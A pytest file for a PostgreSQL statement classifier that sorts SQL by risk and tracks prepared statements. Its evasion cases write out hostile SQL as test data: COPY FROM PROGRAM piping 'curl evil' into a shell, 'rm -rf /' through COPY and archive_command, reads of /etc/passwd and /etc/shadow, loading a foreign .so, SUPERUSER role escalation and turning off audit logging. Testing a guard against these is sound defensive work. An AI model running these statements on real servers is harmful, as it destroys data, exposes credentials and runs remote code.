"""classify_postgres: evasions that must be caught, look-alikes that must pass, and the
judgements documented in wardgate.sql.postgres. Also PostgreSQL PREPARE/EXECUTE through
PreparedStatements."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wardgate.sql import PreparedStatements, StatementClass, classify_postgres
from wardgate.sql.classes import Classification

R = StatementClass.READ
W = StatementClass.WRITE
WU = StatementClass.WRITE_UNBOUNDED
DDL = StatementClass.DDL
X = StatementClass.DESTRUCTIVE
P = StatementClass.PRIVILEGE
SE = StatementClass.SERVER_ESCAPE
DY = StatementClass.DYNAMIC
TX = StatementClass.TRANSACTION
S = StatementClass.SESSION
U = StatementClass.UTILITY
UN = StatementClass.UNCLASSIFIED

# (id, sql, exact classes)
EVASIONS: list[tuple[str, str, set[StatementClass]]] = [
    # comments, case, quoting: the parser decides, not bytes
    ("comment-inside-keyword", "DR/**/OP TABLE t", {UN}),
    ("comment-between-keywords", "DROP/**/TABLE t", {X}),
    ("nested-comment-between", "DROP /* a /* nested */ comment */ TABLE t", {X}),
    ("line-comment-between", "DROP -- hide\nTABLE t", {X}),
    ("mixed-case", "dRoP tAbLe T", {X}),
    ("quoted-table", 'DROP TABLE "Users"', {X}),
    ("if-exists-cascade", "DROP TABLE IF EXISTS a, b CASCADE", {X}),
    ("drop-schema", "DROP SCHEMA s CASCADE", {X}),
    ("drop-database", "DROP DATABASE prod", {X}),
    ("drop-function", "DROP FUNCTION f(int)", {X}),
    ("drop-policy", "DROP POLICY p ON t", {X, P}),
    ("truncate", "TRUNCATE t", {X, W, WU}),
    ("truncate-only-restart", "TRUNCATE ONLY t RESTART IDENTITY", {X, W, WU}),
    # multi-statement
    ("second-statement", "SELECT 1; DROP TABLE t", {R, X}),
    ("second-statement-no-space", "SELECT 1;DROP TABLE t;", {R, X}),
    ("third-statement", "BEGIN; SELECT 1; DELETE FROM t; COMMIT", {TX, R, W, WU}),
    # unbounded writes
    ("update-no-where", "UPDATE t SET a = 1", {W, WU}),
    ("delete-no-where", "DELETE FROM t", {W, WU}),
    ("where-1-eq-1", "UPDATE t SET a=1 WHERE 1=1", {W, WU}),
    ("where-true", "DELETE FROM t WHERE true", {W, WU}),
    ("where-true-or-id", "DELETE FROM t WHERE true OR id=1", {W, WU}),
    ("where-id-or-1-eq-1", "DELETE FROM t WHERE id = 5 OR 1 = 1", {W, WU}),
    ("where-string-eq", "DELETE FROM t WHERE 'a'='a'", {W, WU}),
    ("where-1", "DELETE FROM t WHERE 1", {W, WU}),
    ("where-not-false", "DELETE FROM t WHERE NOT false", {W, WU}),
    ("where-cast-true", "DELETE FROM t WHERE 't'::boolean", {W, WU}),
    ("where-arith", "DELETE FROM t WHERE 2 > 1 + 0", {W, WU}),
    ("where-null-is-null", "DELETE FROM t WHERE NULL IS NULL", {W, WU}),
    ("where-true-is-true", "DELETE FROM t WHERE true IS TRUE", {W, WU}),
    ("where-param", "DELETE FROM t WHERE $1", {W, WU}),
    ("where-param-or", "UPDATE t SET a = 1 WHERE id = $1 OR $2", {W, WU}),
    ("where-column-eq-itself", "DELETE FROM t WHERE id = id", {W, WU}),
    # Two copies of an IN list carry different list offsets (PostgreSQL 18's parser).
    ("where-in-list-eq-itself", "DELETE FROM t WHERE (a IN (1)) = (a IN (1))", {W, WU}),
    ("where-exists-constant", "DELETE FROM t WHERE EXISTS (SELECT 1)", {W, WU}),
    ("where-and-true-parenthesised", "DELETE FROM t WHERE (1=1 AND 2=2) OR id = 3", {W, WU}),
    ("update-from-cross-join", "UPDATE t SET a = u.a FROM u", {W, WU}),
    ("merge-on-true", "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", {W, WU}),
    (
        "merge-not-matched-by-source",
        "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
        {W, WU},
    ),
    # data-modifying CTEs, nested statements
    ("cte-delete", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", {R, W, WU}),
    ("cte-update-bounded", "WITH u AS (UPDATE t SET a=1 WHERE id=2 RETURNING *) SELECT 1", {R, W}),
    ("cte-insert", "WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT * FROM i", {R, W}),
    (
        "nested-cte-delete",
        "SELECT * FROM (WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d) x",
        {R, W, WU},
    ),
    ("copy-query-delete", "COPY (DELETE FROM t RETURNING *) TO STDOUT", {R, W, WU}),
    ("explain-analyze-delete", "EXPLAIN ANALYZE DELETE FROM t", {W, WU}),
    ("explain-analyze-true", "EXPLAIN (ANALYZE true, VERBOSE) DELETE FROM t", {W, WU}),
    ("explain-analyze-on", "EXPLAIN (ANALYZE on) UPDATE t SET a = 1 WHERE id = 1", {W}),
    ("select-into", "SELECT * INTO newtable FROM t", {DDL, R}),
    ("create-table-as", "CREATE TABLE x AS SELECT * FROM y", {DDL, R}),
    ("create-matview", "CREATE MATERIALIZED VIEW mv AS SELECT * FROM y", {DDL, R}),
    # functions that escape the database, anywhere in the tree
    ("pg-read-file", "SELECT pg_read_file('/etc/passwd')", {R, SE}),
    ("pg-read-file-qualified", "SELECT pg_catalog.pg_read_file('/etc/passwd')", {R, SE}),
    ("pg-read-file-quoted", "SELECT \"pg_read_file\"('/etc/passwd')", {R, SE}),
    ("pg-read-file-qualified-quoted", 'SELECT "pg_catalog"."pg_read_file"(\'x\')', {R, SE}),
    ("pg-read-file-unicode-escape", "SELECT U&\"pg\\005fread_file\"('x')", {R, SE}),
    ("pg-read-binary-file", "SELECT pg_read_binary_file('x')", {R, SE}),
    ("pg-ls-dir-from", "SELECT * FROM pg_ls_dir('.')", {R, SE}),
    ("pg-stat-file", "SELECT pg_stat_file('postgresql.conf')", {R, SE}),
    ("pg-read-file-subquery", "SELECT (SELECT pg_read_file('x')) AS a", {R, SE}),
    ("pg-read-file-cte", "WITH x AS (SELECT pg_read_file('x')) SELECT * FROM x", {R, SE}),
    ("pg-read-file-nested-arg", "SELECT length(upper(pg_read_file('x')))", {R, SE}),
    ("pg-read-file-where", "SELECT 1 FROM t WHERE pg_read_file('x') IS NOT NULL", {R, SE}),
    ("pg-read-file-lateral", "SELECT * FROM t, LATERAL pg_read_file(t.p) f", {R, SE}),
    ("pg-read-file-order-by", "SELECT 1 FROM t ORDER BY pg_read_file('x')", {R, SE}),
    ("pg-read-file-in-default", "CREATE TABLE t (a text DEFAULT pg_read_file('x'))", {DDL, SE}),
    ("pg-read-file-in-view", "CREATE VIEW v AS SELECT pg_read_file('x')", {DDL, SE}),
    ("lo-export", "SELECT lo_export(1234, '/tmp/x')", {R, SE}),
    ("lo-import", "SELECT lo_import('/etc/passwd')", {R, SE}),
    ("dblink", "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)", {R, SE, DY}),
    ("dblink-exec", "SELECT dblink_exec('dbname=same', 'DROP TABLE t')", {R, SE, DY}),
    ("terminate-backend", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", {R, SE}),
    ("cancel-backend", "SELECT pg_cancel_backend(123)", {R, SE}),
    ("reload-conf", "SELECT pg_reload_conf()", {R, SE}),
    ("rotate-logfile", "SELECT pg_rotate_logfile()", {R, SE}),
    ("logical-slot-changes", "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", {R, SE}),
    ("query-to-xml", "SELECT query_to_xml('SELECT pg_read_file(''x'')', true, true, '')", {R, DY}),
    ("table-to-xml", "SELECT table_to_xml('secret'::regclass, true, true, '')", {R, DY}),
    ("set-config-role", "SELECT set_config('role', 'postgres', false)", {R, P}),
    ("set-config-role-upper", "SELECT set_config('ROLE', 'postgres', false)", {R, P}),
    ("set-config-session-auth", "SELECT set_config('session_authorization', 'x', false)", {R, P}),
    ("set-config-computed", "SELECT set_config(name, 'x', false) FROM s", {R, P, SE, DY}),
    ("set-config-preload", "SELECT set_config('session_preload_libraries', 'x', false)", {R, SE}),
    ("setval", "SELECT setval('s', 1)", {R, W}),
    ("nextval", "SELECT nextval('s')", {R, W}),
    ("pg-notify", "SELECT pg_notify('c', 'x')", {R, W}),
    # COPY
    ("copy-to-program", "COPY t TO PROGRAM 'rm -rf /'", {R, SE}),
    ("copy-from-program", "COPY t FROM PROGRAM 'curl evil | sh'", {W, SE}),
    ("copy-query-to-file", "COPY (SELECT 1) TO '/tmp/x'", {R, SE}),
    ("copy-from-server-file", "COPY t FROM '/etc/passwd'", {W, SE}),
    # DO / functions / rules / triggers / procedures
    ("do-dynamic-execute", "DO $x$ BEGIN EXECUTE 'DROP TABLE t'; END $x$", {DY}),
    ("do-static-delete", "DO $$ BEGIN DELETE FROM t; END $$", {DY, W, WU}),
    ("do-static-read-file", "DO $$ BEGIN PERFORM pg_read_file('x'); END $$", {DY, R, SE}),
    ("do-untrusted-language", "DO LANGUAGE plpython3u $$import os; os.system('id')$$", {DY, SE}),
    ("do-unparseable-body", "DO $$ BEGIN x := 1; END $$", {DY}),
    ("do-e-string", "DO E'BEGIN EXECUTE \\'DROP TABLE t\\'; END'", {DY}),
    (
        "create-function-definer",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'",
        {DDL, DY, P, R},
    ),
    (
        "create-function-c",
        "CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'f'",
        {DDL, DY, SE},
    ),
    (
        "create-function-plpgsql-body",
        "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE t; END $$",
        {DDL, DY, X},
    ),
    (
        "create-function-sql-body-atomic",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END",
        {DDL, DY, W, WU},
    ),
    (
        "create-function-set-role",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = 'admin' AS 'SELECT 1'",
        {DDL, DY, P, R},
    ),
    ("alter-function-definer", "ALTER FUNCTION f() SECURITY DEFINER", {DDL, P}),
    ("create-procedure", "CREATE PROCEDURE p() LANGUAGE sql AS 'DELETE FROM t'", {DDL, DY, W, WU}),
    ("call", "CALL p()", {DY}),
    ("create-rule", "CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT 1", {DDL, DY}),
    (
        "create-rule-delete",
        "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM u",
        {DDL, DY, W, WU},
    ),
    (
        "create-trigger",
        "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
        {DDL, DY},
    ),
    (
        "create-event-trigger",
        "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()",
        {DDL, DY},
    ),
    # ALTER
    ("alter-drop-column", "ALTER TABLE t DROP COLUMN c", {DDL, X}),
    ("alter-drop-constraint", "ALTER TABLE t DROP CONSTRAINT c", {DDL, X}),
    ("alter-add-and-drop", "ALTER TABLE t ADD COLUMN d int, DROP COLUMN c", {DDL, X}),
    ("alter-column-type", "ALTER TABLE t ALTER COLUMN c TYPE int USING 0", {DDL, X}),
    ("alter-disable-trigger", "ALTER TABLE t DISABLE TRIGGER ALL", {DDL, X}),
    ("alter-disable-rls", "ALTER TABLE t DISABLE ROW LEVEL SECURITY", {DDL, P}),
    ("alter-owner", "ALTER TABLE t OWNER TO mallory", {DDL, P}),
    ("alter-rename-table", "ALTER TABLE t RENAME TO t_old", {DDL, X}),
    ("alter-rename-column", "ALTER TABLE t RENAME COLUMN a TO b", {DDL, X}),
    ("alter-set-schema", "ALTER TABLE t SET SCHEMA archive", {DDL, X}),
    (
        "alter-foreign-options",
        "ALTER FOREIGN TABLE f OPTIONS (SET filename '/etc/passwd')",
        {DDL, SE},
    ),
    # privilege
    ("set-role", "SET ROLE postgres", {P}),
    ("set-local-role", "SET LOCAL ROLE postgres", {P}),
    ("set-role-none", "SET ROLE NONE", {P}),
    ("reset-role", "RESET ROLE", {P}),
    ("set-session-authorization", "SET SESSION AUTHORIZATION postgres", {P}),
    ("reset-session-authorization", "RESET SESSION AUTHORIZATION", {P}),
    ("discard-all", "DISCARD ALL", {S, P}),
    ("grant", "GRANT SELECT ON t TO u", {P}),
    ("grant-role", "GRANT admin TO mallory", {P}),
    ("revoke", "REVOKE ALL ON t FROM u", {P}),
    ("create-role", "CREATE ROLE r SUPERUSER LOGIN", {P}),
    ("alter-role", "ALTER ROLE r SUPERUSER", {P}),
    ("alter-user-password", "ALTER USER u PASSWORD 'x'", {P}),
    ("drop-role", "DROP ROLE r", {P, X}),
    ("rename-role", "ALTER ROLE a RENAME TO b", {P}),
    ("default-privileges", "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO u", {P}),
    ("create-policy", "CREATE POLICY p ON t USING (true)", {P, DDL}),
    ("reassign-owned", "REASSIGN OWNED BY a TO b", {P}),
    ("drop-owned", "DROP OWNED BY a", {P, X}),
    # server escape
    ("create-extension", "CREATE EXTENSION dblink", {SE, DDL}),
    ("load", "LOAD '/tmp/evil.so'", {SE}),
    ("alter-system", "ALTER SYSTEM SET archive_command = 'rm -rf /'", {SE}),
    ("create-language", "CREATE LANGUAGE plpython3u", {SE, DDL}),
    (
        "create-server",
        "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')",
        {SE, DDL},
    ),
    ("create-user-mapping", "CREATE USER MAPPING FOR u SERVER s OPTIONS (password 'x')", {SE, DDL}),
    ("import-foreign-schema", "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO local", {SE, DDL}),
    ("create-subscription", "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", {SE, DDL}),
    ("create-tablespace", "CREATE TABLESPACE ts LOCATION '/tmp/ts'", {SE, DDL}),
    ("set-preload-libraries", "SET session_preload_libraries = 'evil'", {SE}),
    ("set-log-statement", "SET log_statement = 'none'", {SE}),
    ("set-session-replication-role", "SET session_replication_role = replica", {SE}),
    ("set-scs-off", "SET standard_conforming_strings = off", {SE}),
    ("set-pgaudit", "SET pgaudit.log = 'none'", {SE}),
    # unclassified
    ("psql-meta-command", "\\! rm -rf /", {UN}),
    ("garbage", "this is not sql", {UN}),
    ("unterminated-string", "SELECT 'abc", {UN}),
    ("unterminated-dollar", "SELECT $$abc", {UN}),
    ("unterminated-comment", "SELECT 1 /* DROP TABLE t", {UN}),
    ("nul-byte-hides-rest", "SELECT 1\x00; DROP TABLE t", {UN}),
    ("execute-unknown", "EXECUTE p", {UN}),
]

LOOK_ALIKES: list[tuple[str, str, set[StatementClass]]] = [
    ("string-with-drop", "SELECT 'DROP TABLE users'", {R}),
    ("line-comment-drop", "SELECT 1 -- DROP TABLE t", {R}),
    ("block-comment-delete", "SELECT /* DELETE FROM t */ 1", {R}),
    ("quoted-keywords", 'SELECT "drop" FROM "delete"', {R}),
    ("dollar-quoted-drop", "SELECT $$DROP TABLE t$$", {R}),
    ("tagged-dollar-quoted", "SELECT $tag$; DROP TABLE t; $tag$", {R}),
    ("e-string", "SELECT E'\\'; DROP TABLE t; --'", {R}),
    ("string-with-semicolon", "SELECT ';DROP TABLE t;'", {R}),
    ("unicode-escape-identifier", 'SELECT U&"\\0064rop" FROM t', {R}),
    ("column-named-pg-read-file", "SELECT pg_read_file FROM t", {R}),
    ("function-name-in-string", "SELECT 'pg_read_file(''/etc/passwd'')'", {R}),
    ("select-for-update", "SELECT * FROM t WHERE id = 1 FOR UPDATE", {R}),
    ("select-for-share-skip-locked", "SELECT * FROM t FOR SHARE SKIP LOCKED", {R}),
    ("values", "VALUES (1), (2)", {R}),
    ("table", "TABLE t", {R}),
    ("union", "SELECT 1 UNION ALL SELECT 2", {R}),
    ("cte-read", "WITH x AS (SELECT * FROM t) SELECT * FROM x", {R}),
    ("explain", "EXPLAIN SELECT * FROM t", {R}),
    ("explain-delete-no-analyze", "EXPLAIN DELETE FROM t", {R}),
    ("explain-analyze-false", "EXPLAIN (ANALYZE false) DELETE FROM t", {R}),
    ("explain-analyze-off", "EXPLAIN (ANALYZE off, COSTS off) DELETE FROM t", {R}),
    ("update-where-id", "UPDATE t SET a=1 WHERE id=5", {W}),
    ("update-where-and-constant", "UPDATE t SET a=1 WHERE 1=1 AND id=5", {W}),
    ("delete-where-false-or-id", "DELETE FROM t WHERE 1=0 OR id = 3", {W}),
    ("delete-where-in-subquery", "DELETE FROM t WHERE id IN (SELECT id FROM u WHERE x)", {W, R}),
    ("delete-using", "DELETE FROM t USING u WHERE t.id = u.id", {W}),
    ("delete-current-of", "DELETE FROM t WHERE CURRENT OF c", {W}),
    ("delete-where-false", "DELETE FROM t WHERE false", {W}),
    ("insert-values", "INSERT INTO t (a) VALUES (1)", {W}),
    ("insert-on-conflict", "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2", {W}),
    ("insert-on-conflict-nothing", "INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", {W}),
    ("insert-select", "INSERT INTO t SELECT * FROM u", {W, R}),
    ("insert-returning", "INSERT INTO t VALUES (1) RETURNING id", {W}),
    (
        "merge-bounded",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a",
        {W},
    ),
    (
        "merge-by-source-with-condition",
        "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE AND t.old THEN DELETE",
        {W},
    ),
    ("copy-from-stdin", "COPY t FROM STDIN", {W}),
    ("copy-to-stdout", "COPY t TO STDOUT WITH (FORMAT csv)", {R}),
    ("copy-query-stdout", "COPY (SELECT * FROM t) TO STDOUT", {R}),
    # what psql, JDBC, DBeaver and pgbench send
    (
        "psql-dt",
        'SELECT n.nspname as "Schema", c.relname as "Name" FROM pg_catalog.pg_class c '
        "LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace "
        "WHERE c.relkind IN ('r','p','') AND n.nspname <> 'pg_catalog' "
        "AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1,2;",
        {R},
    ),
    ("current-schema", "SELECT current_schema()", {R}),
    ("version", "SELECT version()", {R}),
    ("show-isolation", "SHOW TRANSACTION ISOLATION LEVEL", {R}),
    ("show-all", "SHOW ALL", {R}),
    ("set-extra-float-digits", "SET extra_float_digits = 3", {S}),
    ("set-application-name", "SET application_name = 'x'", {S}),
    ("set-search-path", "SET search_path TO public, app", {S}),
    ("set-statement-timeout", "SET statement_timeout = 0", {S}),
    ("set-local-custom", "SET LOCAL app.tenant_id = '42'", {S}),
    ("set-time-zone", "SET TIME ZONE 'UTC'", {S}),
    ("set-scs-on", "SET standard_conforming_strings = on", {S}),
    ("reset-all", "RESET ALL", {S}),
    ("set-config-search-path", "SELECT pg_catalog.set_config('search_path', '', false)", {R, S}),
    ("set-transaction", "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", {TX}),
    ("set-session-characteristics", "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", {S}),
    ("jdbc-savepoint", "SAVEPOINT PGJDBC_AUTOSAVE", {TX}),
    ("release-savepoint", "RELEASE SAVEPOINT s", {TX}),
    ("rollback-to", "ROLLBACK TO SAVEPOINT s", {TX}),
    ("begin", "BEGIN", {TX}),
    ("begin-isolation", "BEGIN ISOLATION LEVEL REPEATABLE READ", {TX}),
    ("start-transaction", "START TRANSACTION READ WRITE", {TX}),
    ("end", "END", {TX}),
    ("commit", "COMMIT", {TX}),
    ("rollback", "ROLLBACK", {TX}),
    ("pgbench-select", "SELECT abalance FROM pgbench_accounts WHERE aid = $1;", {R}),
    ("pgbench-update", "UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2;", {W}),
    (
        "pgbench-insert",
        "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) "
        "VALUES ($1, $2, $3, $4, CURRENT_TIMESTAMP);",
        {W},
    ),
    ("empty", "", set()),
    ("only-whitespace", "  \n\t ", set()),
    ("only-comment", "-- nothing", set()),
    ("only-semicolons", ";;", set()),
    ("listen", "LISTEN chan", {S}),
    ("notify", "NOTIFY chan, 'x'", {W}),
    ("discard-plans", "DISCARD PLANS", {S}),
    # DDL / utility
    ("create-table", "CREATE TABLE t (id int PRIMARY KEY, a text)", {DDL}),
    ("create-index", "CREATE INDEX CONCURRENTLY i ON t (a)", {DDL}),
    ("create-view", "CREATE VIEW v AS SELECT * FROM t", {DDL, R}),
    ("create-schema", "CREATE SCHEMA app", {DDL}),
    ("alter-add-column", "ALTER TABLE t ADD COLUMN c int", {DDL}),
    ("comment-on", "COMMENT ON TABLE t IS 'DROP TABLE t'", {DDL}),
    ("create-sequence", "CREATE SEQUENCE s", {DDL}),
    ("vacuum", "VACUUM ANALYZE t", {U}),
    ("analyze", "ANALYZE t", {U}),
    ("cluster", "CLUSTER t USING i", {U}),
    ("reindex", "REINDEX TABLE t", {U}),
    ("checkpoint", "CHECKPOINT", {U}),
    ("lock", "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", {U}),
    ("declare-cursor", "DECLARE c CURSOR FOR SELECT * FROM t", {U, R}),
    ("fetch", "FETCH 10 FROM c", {U}),
    ("close", "CLOSE c", {U}),
    ("deallocate", "DEALLOCATE p", {U}),
    ("deallocate-all", "DEALLOCATE ALL", {U}),
    ("prepare-select", "PREPARE p AS SELECT * FROM t WHERE id = $1", {U, R}),
    ("refresh-matview", "REFRESH MATERIALIZED VIEW mv", {U, W}),
]


@pytest.mark.parametrize(
    ("sql", "expected"), [(s, e) for _, s, e in EVASIONS], ids=[i for i, _, _ in EVASIONS]
)
def test_evasions_are_caught(sql: str, expected: set[StatementClass]) -> None:
    c = classify_postgres(sql)
    assert c.classes == expected, c


@pytest.mark.parametrize(
    ("sql", "expected"), [(s, e) for _, s, e in LOOK_ALIKES], ids=[i for i, _, _ in LOOK_ALIKES]
)
def test_look_alikes_pass(sql: str, expected: set[StatementClass]) -> None:
    c = classify_postgres(sql)
    assert c.classes == expected, c
    assert c.error is None


# (id, sql, exact tables)
TABLES: list[tuple[str, str, set[str]]] = [
    ("qualified-lowercased", 'SELECT * FROM "Public"."Users"', {"public.users"}),
    ("join", "SELECT * FROM a JOIN s.b ON a.id = b.id", {"a", "s.b"}),
    ("subquery-in-where", "SELECT 1 FROM a WHERE x IN (SELECT y FROM b)", {"a", "b"}),
    ("cte-name-is-not-a-table", "WITH d AS (SELECT * FROM t) SELECT * FROM d", {"t"}),
    ("non-recursive-cte-reads-real-table", "WITH t AS (SELECT * FROM t) SELECT * FROM t", {"t"}),
    (
        "recursive-cte",
        "WITH RECURSIVE r AS (SELECT 1 UNION SELECT 1 FROM r) SELECT * FROM r",
        set(),
    ),
    ("schema-qualified-shadow", "WITH t AS (SELECT 1) SELECT * FROM public.t", {"public.t"}),
    ("cte-delete", "WITH d AS (DELETE FROM x.t RETURNING *) SELECT * FROM d", {"x.t"}),
    ("update-from", "UPDATE t SET a = u.a FROM u WHERE t.id = u.id", {"t", "u"}),
    ("insert-select", "INSERT INTO t SELECT * FROM u", {"t", "u"}),
    ("drop-several", "DROP TABLE a, s.b", {"a", "s.b"}),
    ("truncate-several", "TRUNCATE a, b", {"a", "b"}),
    ("alter", "ALTER TABLE s.t DROP COLUMN c", {"s.t"}),
    ("grant", "GRANT SELECT ON TABLE s.t TO u", {"s.t"}),
    ("copy", "COPY s.t TO STDOUT", {"s.t"}),
    ("select-into", "SELECT * INTO n FROM t", {"n", "t"}),
    ("set-op-cte", "(WITH c AS (SELECT 1) SELECT * FROM c) UNION SELECT * FROM t", {"t"}),
    ("multi-statement", "SELECT * FROM a; DELETE FROM b WHERE id = 1", {"a", "b"}),
    ("lock", "LOCK TABLE a, b", {"a", "b"}),
    ("explain", "EXPLAIN SELECT * FROM secret", {"secret"}),
]


@pytest.mark.parametrize(
    ("sql", "expected"), [(s, e) for _, s, e in TABLES], ids=[i for i, _, _ in TABLES]
)
def test_tables(sql: str, expected: set[str]) -> None:
    assert classify_postgres(sql).tables == expected


def test_statements_are_listed_with_their_own_text_and_classes() -> None:
    c = classify_postgres("SELECT 'é' FROM a;  DROP TABLE b; DELETE FROM c WHERE id = 1")
    assert [s.kind for s in c.statements] == ["SelectStmt", "DropStmt", "DeleteStmt"]
    assert [s.text for s in c.statements] == [
        "SELECT 'é' FROM a",
        "DROP TABLE b",
        "DELETE FROM c WHERE id = 1",
    ]
    assert [s.classes for s in c.statements] == [{R}, {X}, {W}]
    assert [s.tables for s in c.statements] == [{"a"}, {"b"}, {"c"}]
    assert c.classes == {R, X, W}


def test_parse_error_is_a_classification_with_a_message_not_an_exception() -> None:
    c = classify_postgres("DR/**/OP TABLE t")
    assert c.classes == {UN}
    assert c.statements == ()
    assert c.error is not None
    assert "syntax error" in c.error
    assert "character 1" in c.error


def test_parse_error_does_not_copy_string_literals_into_the_message() -> None:
    c = classify_postgres("ALTER USER bob PASSWORD 'hunter2' 'oops'")
    assert c.error is not None
    assert "hunter2" not in c.error
    assert "oops" not in c.error


def test_nul_byte_is_refused() -> None:
    c = classify_postgres("SELECT 1\x00; DROP TABLE t")
    assert c.classes == {UN}
    assert c.error is not None
    assert "NUL" in c.error


def test_unknown_alter_table_subcommand_fails_closed(monkeypatch: pytest.MonkeyPatch) -> None:
    from wardgate.sql import postgres

    monkeypatch.setattr(postgres, "_ALTER_TABLE_DDL", frozenset())
    assert UN in classify_postgres("ALTER TABLE t ADD COLUMN c int").classes


def test_unknown_statement_kind_fails_closed(monkeypatch: pytest.MonkeyPatch) -> None:
    from wardgate.sql import postgres

    base = dict(postgres._BASE_CLASSES)
    del base["VacuumStmt"]
    monkeypatch.setattr(postgres, "_BASE_CLASSES", base)
    assert classify_postgres("VACUUM t").classes == {UN}


# --- fingerprints ----------------------------------------------------------------------------


def test_fingerprint_ignores_literals_of_ordinary_statements() -> None:
    a = classify_postgres("SELECT * FROM t WHERE id = 5")
    b = classify_postgres("SELECT * FROM t WHERE id = 6")
    assert a.fingerprint == b.fingerprint
    assert a.fingerprint != classify_postgres("SELECT * FROM u WHERE id = 5").fingerprint


def test_fingerprint_separates_classes_of_the_same_shape() -> None:
    bounded = classify_postgres("DELETE FROM t WHERE id = 5 OR 1 = 0")
    unbounded = classify_postgres("DELETE FROM t WHERE id = 5 OR 1 = 1")
    assert bounded.classes != unbounded.classes
    assert bounded.fingerprint != unbounded.fingerprint


@pytest.mark.parametrize(
    ("a", "b"),
    [
        ("SET ROLE app", "SET ROLE postgres"),
        ("DO $$BEGIN PERFORM 1; END$$", "DO $$BEGIN EXECUTE 'DROP TABLE t'; END$$"),
        ("COPY t TO PROGRAM 'gzip > /backup/t'", "COPY t TO PROGRAM 'rm -rf /'"),
        ("SELECT pg_read_file('/var/log/app')", "SELECT pg_read_file('/etc/shadow')"),
        ("DR/**/OP TABLE a", "DR/**/OP TABLE b"),
    ],
    ids=["set-role", "do-body", "copy-program", "read-file", "unparseable"],
)
def test_fingerprint_is_exact_where_a_literal_is_the_danger(a: str, b: str) -> None:
    assert classify_postgres(a).fingerprint != classify_postgres(b).fingerprint


# --- PREPARE / EXECUTE -----------------------------------------------------------------------


def test_prepare_then_execute_carries_the_prepared_classes() -> None:
    session = PreparedStatements()
    prepare = session.resolve(classify_postgres("PREPARE p AS DELETE FROM t"))
    assert prepare.classes == {U, W, WU}  # stopped at PREPARE already
    execute = session.resolve(classify_postgres("EXECUTE p"))
    assert execute.classes == {W, WU}
    assert execute.tables == {"t"}
    assert execute.error is None


def test_prepare_and_execute_in_one_string() -> None:
    c = PreparedStatements().resolve(classify_postgres("PREPARE p AS DELETE FROM t; EXECUTE p"))
    assert c.statements[1].classes == {W, WU}
    assert c.classes == {U, W, WU}


def test_execute_without_registry_or_unknown_name_is_unclassified() -> None:
    assert classify_postgres("EXECUTE p").classes == {UN}
    c = PreparedStatements().resolve(classify_postgres("EXECUTE p(1)"))
    assert c.classes == {UN}
    assert c.error is not None
    assert "PREPARE it" in c.error


def test_deallocate_forgets() -> None:
    session = PreparedStatements()
    session.resolve(classify_postgres("PREPARE p AS SELECT 1"))
    session.resolve(classify_postgres("DEALLOCATE p"))
    assert session.resolve(classify_postgres("EXECUTE p")).classes == {UN}
    session.resolve(classify_postgres("PREPARE p AS SELECT 1; PREPARE q AS SELECT 2"))
    session.resolve(classify_postgres("DISCARD ALL"))
    assert len(session) == 0


def test_execute_inside_explain_analyze_and_ctas_is_followed() -> None:
    session = PreparedStatements()
    session.resolve(classify_postgres("PREPARE p AS DELETE FROM t WHERE id = $1"))
    assert session.resolve(classify_postgres("EXPLAIN ANALYZE EXECUTE p(1)")).classes == {W}
    assert session.resolve(classify_postgres("CREATE TABLE x AS EXECUTE p(1)")).classes == {
        DDL,
        R,
        W,
    }
    assert session.resolve(classify_postgres("EXPLAIN EXECUTE p(1)")).classes == {R}


def test_execute_parameters_are_classified() -> None:
    session = PreparedStatements()
    session.resolve(classify_postgres("PREPARE p(text) AS SELECT $1"))
    assert session.resolve(classify_postgres("EXECUTE p(pg_read_file('x'))")).classes == {R, SE}


def test_postgres_re_prepare_keeps_both_bodies() -> None:
    # PostgreSQL rejects PREPARE of an existing name and keeps the old statement; the
    # registry cannot know which one the server has, so it keeps both.
    session = PreparedStatements()
    session.resolve(classify_postgres("PREPARE p AS DELETE FROM t"))
    session.resolve(classify_postgres("PREPARE p AS SELECT 1"))
    assert session.resolve(classify_postgres("EXECUTE p")).classes == {R, W, WU}


def test_execute_fingerprint_depends_on_what_was_prepared() -> None:
    one, two = PreparedStatements(), PreparedStatements()
    one.resolve(classify_postgres("PREPARE p AS SELECT 1"))
    two.resolve(classify_postgres("PREPARE p AS DELETE FROM t WHERE id = 1"))
    a = one.resolve(classify_postgres("EXECUTE p")).fingerprint
    b = two.resolve(classify_postgres("EXECUTE p")).fingerprint
    assert a != b


